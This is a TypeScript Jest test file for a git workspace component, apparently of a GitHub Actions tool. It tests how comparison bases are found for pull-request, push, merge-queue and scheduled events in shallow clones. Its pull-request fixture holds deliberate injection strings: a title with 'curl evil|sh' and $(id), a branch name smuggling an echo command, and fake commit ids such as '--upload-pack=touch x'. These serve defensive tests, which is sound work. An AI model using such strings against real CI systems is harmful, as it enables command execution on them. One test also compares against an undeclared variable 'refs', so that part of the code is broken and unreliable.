import { afterEach, describe, expect, test } from '@jest/globals'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { openWorkspace, type GitWorkspace, type WorkspaceOptions } from '../../src/io/workspace.js'
import { GateError } from '../../src/model/errors.js'
import { cloneRepository, createRepository, quietEnvironment, type TestRepository } from './repository.js'

const open: GitWorkspace[] = []
const repositories: TestRepository[] = []
afterEach(async () => {
  await Promise.all(open.splice(0).map((workspace) => workspace.close()))
  await Promise.all(repositories.splice(0).map((repository) => repository.cleanup()))
})

async function openAt(repository: TestRepository, options: Partial<WorkspaceOptions>): Promise<GitWorkspace> {
  const workspace = await openWorkspace({ repo: repository.dir, all: false, env: quietEnvironment, ...options })
  open.push(workspace)
  return workspace
}

async function failure(promise: Promise<unknown>): Promise<GateError> {
  const error = await promise.then(
    () => new Error('it did not fail'),
    (reason: unknown) => reason,
  )
  if (!(error instanceof GateError)) throw error
  return error
}

/**
 * fork — main2 ──┐
 *    └── feature ─┴ merge        with `card` and a file of each commit
 */
interface Origin {
  readonly repository: TestRepository
  readonly fork: string
  readonly main: string
  readonly feature: string
  readonly merge: string
}

async function createOrigin(objectFormat: 'sha1' | 'sha256' = 'sha1', anySha = true): Promise<Origin> {
  const repository = await createRepository({ objectFormat })
  repositories.push(repository)
  await repository.git('config', 'uploadpack.allowAnySHA1InWant', String(anySha))
  await repository.git('config', 'uploadpack.allowReachableSHA1InWant', String(anySha))
  await repository.write('card', 'fork').then((r) => r.commit('root'))
  await repository.write('card', 'fork 2')
  const fork = await repository.commit('fork')
  await repository.git('checkout', '-qb', 'feature')
  await repository.write('by-feature', '1')
  const feature = await repository.commit('feature')
  await repository.git('checkout', '-q', 'main')
  await repository.write('by-main', '1')
  const main = await repository.commit('main')
  await repository.git('checkout', '-q', '--detach')
  await repository.git('merge', '-q', '--no-ff', '-m', 'merge', feature)
  const merge = await repository.git('rev-parse', 'HEAD')
  await repository.git('update-ref', 'refs/pull/7/merge', merge)
  await repository.git('update-ref', 'refs/pull/7/head', feature)
  await repository.git('checkout', '-q', 'main')
  return { repository, fork, main, feature, merge }
}

/** As actions/checkout leaves it: one commit, HEAD detached. */
async function checkout(origin: Origin, ref: string, depth = '--depth=1'): Promise<TestRepository> {
  const clone = await createRepository({ objectFormat: origin.main.length === 64 ? 'sha256' : 'sha1' })
  repositories.push(clone)
  await clone.git('remote', 'add', 'origin', `file://${origin.repository.dir}`)
  await clone.git('fetch', '-q', '--no-tags', depth, 'origin', `+${ref}:refs/remotes/checkout`)
  await clone.git('checkout', '-q', '--detach', 'refs/remotes/checkout')
  return clone
}

const pullRequest = (origin: Origin, more: object = {}): object => ({
  number: 7,
  pull_request: {
    title: 'x"; curl evil|sh; echo "$(id) `id`\n::error::x',
    head: { ref: 'zzz";echo${IFS}"hello";#', sha: origin.feature, repo: null },
    base: { ref: 'main', sha: origin.main, repo: { full_name: 'o/r' } },
  },
  repository: { full_name: 'o/r', default_branch: 'main' },
  ...more,
})

function on(name: string, sha: string): Record<string, string> {
  return { ...quietEnvironment, GITHUB_EVENT_NAME: name, GITHUB_SHA: sha, GITHUB_ACTIONS: 'true', CI: 'true' }
}

const paths = (workspace: GitWorkspace): string[] => workspace.changes.map((change) => change.path)

describe.each(['sha1', 'sha256'] as const)('pull_request (%s)', (objectFormat) => {
  test('a depth-1 checkout of the merge commit: its first parent, fetched by id', async () => {
    const origin = await createOrigin(objectFormat)
    const clone = await checkout(origin, 'refs/pull/7/merge')
    const workspace = await openAt(clone, { env: on('pull_request', origin.merge), event: pullRequest(origin) })
    expect([workspace.base?.sha, workspace.head.sha, workspace.head.workingTree]).toEqual([origin.main, origin.merge, false])
    expect(workspace.base?.how).toBe(`the first parent of the merge commit ${origin.merge} that GitHub tests`)
    expect(workspace.base?.ref).toBe('main')
    expect(workspace.head.ref).toBe(origin.feature) // the branch's name is no plain text
    expect(paths(workspace)).toEqual(['by-feature'])
    expect(workspace.event).toMatchObject({ kind: 'pull_request', fork: true, target: false })
    expect(await clone.git('rev-parse', '--is-shallow-repository')).toBe('true')
  })
})

describe('pull_request', () => {
  test('the base that was fetched before needs no fetch', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/pull/7/merge', '--depth=5')
    await clone.git('remote', 'remove', 'origin')
    const workspace = await openAt(clone, { env: on('pull_request', origin.merge), event: pullRequest(origin) })
    expect(workspace.base?.sha).toBe(origin.main)
  })

  test('a base that cannot be had is exit 3 with the lines to add', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/pull/7/merge')
    await clone.git('remote', 'set-url', 'origin', 'file:///nowhere/at/all')
    const error = await failure(openAt(clone, { env: on('pull_request', origin.merge), event: pullRequest(origin) }))
    expect([error.exit, error.where]).toEqual([3, origin.main])
    expect(error.message).toContain('git fetch said: ')
    expect(error.fix).toContain('with: { fetch-depth: 0 }')
    expect(error.fix).toContain(`git fetch --no-tags --depth=1 origin ${origin.main}`)
  })

  test('a server that serves no commit by its id', async () => {
    const origin = await createOrigin('sha1', false)
    const clone = await checkout(origin, 'refs/pull/7/merge')
    // Protocol 2 serves ids all the same; version 0 obeys the two settings.
    await clone.git('config', 'protocol.version', '0')
    await origin.repository.git('checkout', '-q', '--detach', origin.fork)
    await origin.repository.git('branch', '-qf', 'main', origin.fork)
    const error = await failure(openAt(clone, { env: on('pull_request', origin.merge), event: pullRequest(origin) }))
    expect([error.exit, error.message.includes('git fetch said: ')]).toEqual([3, true])
  })

  test('the head is checked out instead: the proven merge base, after deepening', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/pull/7/head')
    const workspace = await openAt(clone, { env: on('pull_request', origin.merge), event: pullRequest(origin) })
    expect([workspace.base?.sha, workspace.head.sha]).toEqual([origin.fork, origin.feature])
    expect(workspace.base?.how).toBe(`the merge base of the pull request's base ${origin.main} and ${origin.feature}`)
    expect(paths(workspace)).toEqual(['by-feature'])
  })

  test('a merge commit of another head (the branch was pushed to since) is compared by merge base', async () => {
    const origin = await createOrigin()
    const clone = await cloneRepository(origin.repository)
    repositories.push(clone)
    await clone.git('fetch', '-q', 'origin', 'refs/pull/7/merge')
    await clone.git('checkout', '-q', 'FETCH_HEAD')
    const event = pullRequest({ ...origin, feature: origin.fork })
    const workspace = await openAt(clone, { env: on('pull_request', origin.merge), event })
    expect([workspace.base?.sha, workspace.head.sha]).toEqual([origin.main, origin.merge])
    expect(workspace.base?.how).toContain('merge base')
  })

  test('force-push: `before` of the payload plays no part', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/pull/7/merge', '--depth=9')
    const event = pullRequest(origin, { action: 'synchronize', before: '9'.repeat(40), after: origin.feature })
    expect((await openAt(clone, { env: on('pull_request', origin.merge), event })).base?.sha).toBe(origin.main)
  })

  test('pull_request_target: the head by its id, and the disk is never read', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/heads/main')
    await clone.write('card', 'on disk').then((r) => r.write('untracked', 'on disk'))
    const workspace = await openAt(clone, { env: on('pull_request_target', origin.main), event: pullRequest(origin) })
    expect([workspace.base?.sha, workspace.head.sha, workspace.head.workingTree]).toEqual([origin.fork, origin.feature, false])
    expect(await workspace.head.read('untracked', 99)).toMatchObject({ known: false, absent: true })
    expect(workspace.event).toMatchObject({ target: true, fork: true })
    const all = await openAt(clone, { env: on('pull_request_target', origin.main), event: pullRequest(origin), all: true })
    expect([all.base, all.head.sha]).toEqual([null, origin.feature])
  })

  test('--base wins over the event, and the head stays what is checked out', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/pull/7/merge', '--depth=9')
    const workspace = await openAt(clone, {
      base: origin.fork,
      env: on('pull_request', origin.merge),
      event: pullRequest(origin),
    })
    expect([workspace.base?.sha, workspace.head.sha]).toEqual([origin.fork, origin.merge])
    expect(paths(workspace)).toEqual(['by-feature', 'by-main'])
  })

  test('--base <branch> that the checkout lacks is fetched', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/pull/7/merge')
    const workspace = await openAt(clone, { base: 'main', env: on('workflow_dispatch', origin.merge), event: {} })
    expect(workspace.base?.sha).toBe(origin.main)
  })

  test('an event with ids that are no ids is exit 3, and nothing is run with them', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/pull/7/merge')
    for (const sha of ['--upload-pack=touch x', 'HEAD', '1'.repeat(39), '1'.repeat(41), 'A'.repeat(40), null, 7, {}]) {
      const event = { pull_request: { head: { sha: origin.feature }, base: { sha, ref: 'main' } } }
      const error = await failure(openAt(clone, { env: on('pull_request', origin.merge), event }))
      expect([error.exit, error.message]).toEqual([3, expect.stringContaining('pull_request.base.sha')])
    }
    for (const event of [null, [], 'x', {}, { pull_request: null }]) {
      expect((await failure(openAt(clone, { env: on('pull_request', origin.merge), event }))).exit).toBe(3)
    }
  })

  test('the payload comes from the file of GITHUB_EVENT_PATH', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/pull/7/merge')
    const file = join(clone.dir, '.git', 'event.json')
    const env = { ...on('pull_request', origin.merge), GITHUB_EVENT_PATH: file }
    const missing = await failure(openAt(clone, { env }))
    expect([missing.exit, missing.where]).toEqual([3, file])
    await writeFile(file, '{ not JSON')
    expect((await failure(openAt(clone, { env }))).exit).toBe(3)
    await writeFile(file, JSON.stringify(pullRequest(origin)))
    expect((await openAt(clone, { env })).base?.sha).toBe(origin.main)
  })
})

describe('other events', () => {
  test('merge_group: its base and head', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/pull/7/merge')
    const group = {
      head_sha: origin.merge,
      base_sha: origin.main,
      base_ref: 'refs/heads/main',
      head_ref: 'refs/heads/gh-readonly-queue/main/pr-1-x',
    }
    const workspace = await openAt(clone, { env: on('merge_group', origin.merge), event: { merge_group: group } })
    expect([workspace.base?.sha, workspace.base?.how, paths(workspace)]).toEqual([
      origin.main,
      'the base of the merge group',
      ['by-feature'],
    ])
  })

  test('push: before and after, in a depth-1 checkout', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/heads/main')
    const event = { ref: 'refs/heads/main', before: origin.fork, after: origin.main, repository: { default_branch: 'main' } }
    const workspace = await openAt(clone, { env: on('push', origin.main), event })
    expect([workspace.base?.sha, workspace.base?.how, paths(workspace)]).toEqual([
      origin.fork,
      'the commit before the push',
      ['by-main'],
    ])
  })

  test.each([['main'], [undefined]])('push of a new branch: the merge base with the default branch %s', async (branch) => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/heads/feature')
    const event = {
      ref: 'refs/heads/feature',
      before: '0'.repeat(40),
      after: origin.feature,
      repository: { default_branch: branch },
    }
    const workspace = await openAt(clone, { env: on('push', origin.feature), event })
    expect([workspace.base?.sha, paths(workspace)]).toEqual([origin.fork, ['by-feature']])
    expect(workspace.base?.how).toContain('the push made a new branch or tag')
    expect(await clone.git('for-each-ref')).toBe(refs)
  })

  test('push whose `before` is gone: the merge base with the default branch', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/heads/feature')
    const event = {
      ref: 'refs/heads/feature',
      before: '9'.repeat(40),
      after: origin.feature,
      repository: { default_branch: 'main' },
    }
    const workspace = await openAt(clone, { env: on('push', origin.feature), event })
    expect([workspace.base?.sha, workspace.base?.how]).toEqual([origin.fork, expect.stringContaining('9'.repeat(40))])
  })

  test('push to the default branch whose `before` is gone is exit 3; the first push of it has everything new', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/heads/main')
    const event = { ref: 'refs/heads/main', before: '9'.repeat(40), after: origin.main, repository: { default_branch: 'main' } }
    const error = await failure(openAt(clone, { env: on('push', origin.main), event }))
    expect([error.exit, error.fix?.includes('fetch-depth: 0')]).toEqual([3, true])
    const first = await openAt(clone, { env: on('push', origin.main), event: { ...event, before: '0'.repeat(40) } })
    expect([first.base?.sha, paths(first)]).toEqual([null, ['by-main', 'card']])
  })

  test('push of a tag on the default branch: the parent of what it names', async () => {
    const origin = await createOrigin()
    const clone = await checkout(origin, 'refs/heads/main', '--depth=9')
    const event = { ref: 'refs/tags/v1', before: '0'.repeat(40), after: origin.main, repository: { default_branch: 'main' } }
    const workspace = await openAt(clone, { env: on('push', origin.main), event })
    expect([workspace.base?.sha, paths(workspace)]).toEqual([origin.fork, ['by-main']])
  })

  test('a deletion has no head', async () => {
    const origin = await createOrigin()
    const event = { ref: 'refs/heads/x', before: origin.main, after: '0'.repeat(40) }
    expect((await failure(openAt(origin.repository, { env: on('push', origin.main), event }))).exit).toBe(3)
  })

  test('schedule needs a base; workflow_dispatch may carry it', async () => {
    const origin = await createOrigin()
    const error = await failure(openAt(origin.repository, { env: on('schedule', origin.main), event: {} }))
    expect([error.exit, error.message]).toEqual([2, 'the event "schedule" does not say what to compare with'])
    const all = await openAt(origin.repository, { env: on('schedule', origin.main), event: {}, all: true })
    expect(all.base).toBe(null)
    const event = { inputs: { base: origin.fork } }
    const dispatched = await openAt(origin.repository, { env: on('workflow_dispatch', origin.main), event })
    expect([dispatched.base?.sha, dispatched.head.sha]).toEqual([origin.fork, origin.main])
    const hostile = await failure(
      openAt(origin.repository, { env: on('workflow_dispatch', origin.main), event: { inputs: { base: '--all' } } }),
    )
    expect([hostile.exit, hostile.message.includes('input "base"')]).toEqual([2, true])
  })
})

test('a shallow clone on a machine of a person is not deepened: exit 3 with the command', async () => {
  const origin = await createOrigin()
  const clone = await checkout(origin, 'refs/pull/7/head')
  await clone.git('fetch', '-q', '--depth=1', 'origin', '+refs/heads/main:refs/remotes/origin/main')
  const error = await failure(openAt(clone, {}))
  expect([error.exit, error.fix?.includes('git fetch --unshallow origin')]).toEqual([3, true])
  const explicit = await openAt(clone, { base: 'main' })
  expect([explicit.base?.sha, explicit.base?.how]).toEqual([
    origin.main,
    'the tip of main (the clone is shallow, so the merge base is not known)',
  ])
  expect(await explicit.tree('v1')).toMatchObject({ known: false, absent: false })
})

test('a merge base that only looks right in a shallow clone is not believed', async () => {
  // root — a — b (main);  a — c (feature), and an old merge of root into feature's side: with `a` cut off, git finds root.
  const repository = await createRepository()
  repositories.push(repository)
  await repository.git('config', 'uploadpack.allowAnySHA1InWant', 'true')
  await repository.write('f', 'root')
  const root = await repository.commit('root')
  await repository.write('f', 'a')
  const a = await repository.commit('a')
  await repository.write('b', '1')
  const b = await repository.commit('b')
  const tree = await repository.git('rev-parse', `${a}^{tree}`)
  const feature = await repository.git('commit-tree', tree, '-p', a, '-p', root, '-m', 'feature')
  const main = await repository.git(
    'commit-tree',
    await repository.git('rev-parse', `${b}^{tree}`),
    '-p',
    b,
    '-p',
    root,
    '-m',
    'main',
  )
  await repository.git('update-ref', 'refs/heads/feature', feature)
  await repository.git('update-ref', 'refs/heads/main', main)
  const clone = await createRepository()
  repositories.push(clone)
  await clone.git('remote', 'add', 'origin', `file://${repository.dir}`)
  await clone.git('fetch', '-q', '--depth=2', 'origin', feature, main)
  await clone.git('checkout', '-q', '--detach', feature)
  expect(await clone.git('merge-base', feature, main)).toBe(root)
  const event = { pull_request: { head: { sha: feature, ref: 'f' }, base: { sha: main, ref: 'main' } } }
  const workspace = await openAt(clone, { env: on('pull_request', '1'.repeat(40)), event })
  expect([workspace.base?.sha, paths(workspace)]).toEqual([a, []])
})
